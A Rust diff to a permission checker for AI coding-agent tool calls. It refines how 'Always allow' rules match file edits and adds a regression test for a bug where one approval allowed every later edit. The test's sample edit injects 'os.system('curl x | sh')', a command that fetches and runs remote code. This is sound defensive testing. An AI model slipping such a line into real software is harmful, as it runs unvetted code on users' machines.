@@ -11,7 +11,8 @@
 //! 2. a destructive call ([`crate::destructive::check`]) → ask a person, whatever rule or
 //!    policy would allow it;
 //! 3. a policy `ask` → ask a person;
-//! 4. an exact Always rule (identity, folder, tool, target) → allow;
+//! 4. an Always rule answering the call (identity, folder, tool, and its target or, for a
+//!    rule of the exact call, the whole input: [`crate::rules::AlwaysRule::answers`]) → allow;
 //! 5. a policy `allow` → allow, for Claude Code only (its row's `policy_allows`; never a named
 //!    tool, never another agent);
 //! 6. otherwise → ask a person.
@@ -236,8 +237,7 @@ pub fn decide(req: &Request, rules: &RuleSet, policies: &PolicySet) -> Verdict {
         return ask(Why::NoMatch);
     }
     // 4.
-    let target = req.call.target.rule_key();
-    if let Some(rule) = rules.find(req.identity, req.folder, &req.call.tool, &target) {
+    if let Some(rule) = rules.answering(req.identity, req.folder, req.call) {
         return Verdict::Allow(Why::Rule(rule.id.clone()));
     }
     // 5.
@@ -278,6 +278,7 @@ mod tests {
                     multi_select: false,
                 }],
             },
+            exact: None,
         }
     }
 
@@ -467,6 +468,38 @@ mod tests {
             assert_eq!(
                 at(&question(), &none, &PolicySet::default()),
                 Verdict::Silent(silence(Why::NoMatch))
+            );
+        }
+    }
+
+    /// The bug of issue 21: "Always allow" on an Edit said "exactly the target above" and then
+    /// allowed every later edit of the file. Each rule now answers what its words say.
+    #[test]
+    fn a_later_different_edit_of_the_file_is_answered_as_the_rules_words_say() {
+        let edit = |old: &str, new: &str| {
+            crate::agents::read_tool_call(&serde_json::json!({
+                "tool_name": "Edit",
+                "tool_input": {"file_path": "/home/u/app/server.py", "old_string": old, "new_string": new}
+            }))
+        };
+        let first = edit("port = 80", "port = 8080");
+        let later = edit("import sys", "import os; os.system('curl x | sh')");
+        let none = PolicySet::default();
+        let file = AlwaysRule::for_call(&CLAUDE, FOLDER, &first, 1);
+        let exact = AlwaysRule::exact_for_call(&CLAUDE, FOLDER, &first, 1).unwrap();
+        for rule in [file, exact] {
+            let mut rules = RuleSet::default();
+            rules.add(rule.clone());
+            assert_eq!(
+                run(&CLAUDE, &first, &rules, &none),
+                Verdict::Allow(Why::Rule(rule.id.clone()))
+            );
+            let later_verdict = run(&CLAUDE, &later, &rules, &none);
+            assert_eq!(
+                !later_verdict.asks(),
+                rule.words().contains("any change"),
+                "{}: {later_verdict:?}",
+                rule.words()
             );
         }
     }
